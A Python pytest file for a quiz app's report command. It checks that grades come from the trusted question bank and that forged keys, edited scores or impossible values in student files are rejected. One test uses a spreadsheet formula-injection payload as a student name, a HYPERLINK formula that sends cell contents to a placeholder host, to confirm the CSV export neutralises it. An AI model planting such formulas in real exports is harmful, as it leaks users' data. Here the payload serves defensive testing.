"""`quizapp report` trusts the bank, not what students send: the key and every score come from the bank."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from class_fixtures import BANK_PATH, answer, results, small_class, write_class

from quizapp.cli import main


def _report(tmp_path: Path, files: dict[str, dict[str, Any]], capsys: pytest.CaptureFixture[str], *extra: str):
    paths = write_class(tmp_path / "results", files)
    out_csv = tmp_path / "class.csv"
    code = main(["report", *map(str, paths), "--bank", str(BANK_PATH), "--csv", str(out_csv), "--force", *extra])
    captured = capsys.readouterr()
    rows = list(csv.reader(io.StringIO(out_csv.read_text(encoding="utf-8")))) if out_csv.exists() else []
    return code, captured.err + captured.out, {row[2]: row for row in rows[1:] if row and not row[2].startswith("(")}


def test_a_forged_key_changes_nobody_s_score(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    honest_code, _, honest = _report(tmp_path / "honest", small_class(), capsys)
    forged = results(
        "Mallory", [answer(q, 0, 100 + n, answer_hash="forged") for n, q in enumerate(["q1", "q2", "q3", "q4"] * 20)]
    )
    for question in forged["banks"][0]["questions"]:
        question["answer_hash"] = "forged"  # the key the file claims: every real answer would look wrong
    files = {**small_class(), "mallory.json": forged}
    code, printed, rows = _report(tmp_path / "forged", files, capsys)
    assert honest_code == code == 0
    assert {name: rows[name][4:] for name in honest} == {name: row[4:] for name, row in honest.items()}
    assert rows["Mallory"][4:7] == ["0", "0", ""]  # her answers were to a key the bank never had
    assert "mallory.json:80answersgivenbeforethequestion'sanswerchanged" in "".join(printed.split())  # wrapped


def test_an_edited_score_leaves_the_file_out(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    files = small_class()
    files["dee.json"]["banks"][0]["answers"][1].update(score=1, correct=True)  # q2 'Milan' marked right
    code, err, rows = _report(tmp_path, files, capsys)
    assert code == 2
    assert (
        "dee.json: the score of an answer to 'q2' is 1 but its response scores 0 (edited?); "
        "its answers to 'capitals' are left out"
    ) in err
    assert "Dee" not in rows and len(rows) == 4


@pytest.mark.parametrize(
    ("change", "says"),
    [
        (lambda a: a[0].update(question_id="q9"), "an answer to question 'q9', which the bank does not have"),
        (
            lambda a: a[0].update(answered_at="2027-01-01T00:00:00+00:00"),
            "an answer to 'q1' given after the file was made (impossible)",
        ),
    ],
)
def test_impossible_values_leave_the_file_out(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], change: Any, says: str
) -> None:
    files = small_class()
    change(files["cal.json"]["banks"][0]["answers"])
    code, err, rows = _report(tmp_path, files, capsys)
    assert code == 2 and f"cal.json: {says}; its answers to 'capitals' are left out" in err
    assert "Cal" not in rows


def test_another_version_is_left_out_against_the_bank(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    files = small_class()
    files["zoe.json"] = results("Zoe", [answer("q1", 1, 1)], content_hash="0123456789abcdef")
    code, err, rows = _report(tmp_path, files, capsys)
    assert code == 2 and "zoe.json: answers another version of the bank (0123456789abcdef; the bank file is" in err
    assert "Zoe" not in rows and len(rows) == 5


def test_without_the_bank_nothing_is_counted(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    paths = write_class(tmp_path / "results", small_class())
    assert main(["report", *map(str, paths)]) == 2
    err = capsys.readouterr().err
    assert "ann.json: no bank 'capitals' to check it against: give its file with --bank" in err
    assert err.endswith("quizapp: no usable results files\n")


def test_csv_cells_from_students_cannot_run_as_formulas(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    files = small_class()
    files["ann.json"]["student"] = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    files["ben.json"]["student"] = "+1+1"
    _, _, rows = _report(tmp_path, files, capsys)
    assert '\'=HYPERLINK("http://example.invalid/?"&A1,"click")' in rows
    assert "'+1+1" in rows
    assert json.dumps(sorted(rows)) and all(not name.startswith(("=", "+", "-", "@")) for name in rows)
